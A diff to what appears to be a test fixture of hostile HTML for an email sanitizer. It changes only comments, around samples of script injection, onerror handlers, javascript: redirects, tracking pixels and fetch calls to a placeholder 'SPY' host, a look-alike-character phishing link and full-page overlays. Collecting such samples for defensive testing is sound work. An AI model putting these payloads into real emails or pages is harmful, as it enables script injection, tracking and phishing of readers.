@@ -1,9 +1,9 @@
-/** What an email says that tries to run something: it would leave a mark and call home. */
+/** An attempt to run something in an email: it would leave a mark and call home. */
 const attack = "top.hacked=1;parent.hacked=1;window.hacked=1;fetch('SPY/script');alert('SPY')";
 
 /**
- * HTML written to run a script, to load something from elsewhere, to lead or send the reader away, or
- * to break the page around it. `SPY` stands for an address that must never be called.
+ * HTML written to run a script, to load something from elsewhere, to lead or send the reader away,
+ * or to break the page around it. `SPY` is replaced by an address that must never be called.
  */
 export const hostileHtml: Record<string, string> = {
   // Scripts, plain and in pieces.
@@ -62,7 +62,7 @@ export const hostileHtml: Record<string, string> = {
   'an attribute that ends itself': `<p title='x"><script>${attack}</script>'>Hi</p>`,
   'back quotes': `<img src=\`x\` alt="\`\` onerror=${attack}">Hi`,
 
-  // What loads something, so that its owner learns that the email was opened.
+  // Loads something, so that its owner learns that the email was opened.
   'a pixel': '<img src="SPY/pixel.gif" width=1 height=1>Hi',
   'a picture for each screen': '<img srcset="SPY/1.png 1x, SPY/2.png 2x" src="cid:none">Hi',
   'a picture element': '<picture><source srcset="SPY/1.png"><img src="SPY/2.png"></picture>Hi',
@@ -95,7 +95,7 @@ export const hostileHtml: Record<string, string> = {
   'a rule for speculation':
     '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["SPY/1"]}]}</script>Hi',
 
-  // What leads or sends the reader away.
+  // Leads or sends the reader away.
   'a refresh': '<meta http-equiv="refresh" content="0;url=SPY/refresh">Hi',
   'a refresh to a program': `<meta http-equiv="refresh" content="0;url=javascript:${attack}">Hi`,
   'a base': '<base href="SPY/"><base target="_top"><a href="x">Hi</a><img src="1.png">',
@@ -112,7 +112,7 @@ export const hostileHtml: Record<string, string> = {
   'a link that names another in look-alike characters':
     '<a href="https://evil.example">https://bаnk.example</a>',
 
-  // What would cover or break the page around.
+  // Would cover or break the page around it.
   'a cover over everything':
     '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">Your session ended</div>',
   'a page of enormous height': '<div style="height:99999999999px;min-height:1e12px">Hi</div>',
